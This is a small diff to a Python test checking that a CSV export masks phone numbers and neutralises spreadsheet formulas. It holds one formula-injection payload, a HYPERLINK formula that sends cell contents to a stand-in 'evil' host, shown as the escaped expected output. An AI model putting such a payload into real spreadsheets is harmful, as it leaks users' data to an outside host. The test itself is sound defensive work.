@@ -48,7 +48,8 @@ def test_the_csv_masks_phones_and_escapes_formulas() -> None:
         "resident_choice",
         "2026-12-01T09:00:00+08:00",
     ]
-    assert rows[2][0] == '\'=HYPERLINK("http://evil/?"&A1,"点击")' and rows[2][2] == "staff_correction"
+    assert rows[2][0] == '\'=HYPERLINK("http://evil/?"&A1,"点击")'
+    assert rows[2][2] == "staff_correction"
     assert rows[3][:3] == ["'-楼下有人吵架", "order_dispute", "member_correction"]
     assert "13912345678" not in stream.getvalue()
 
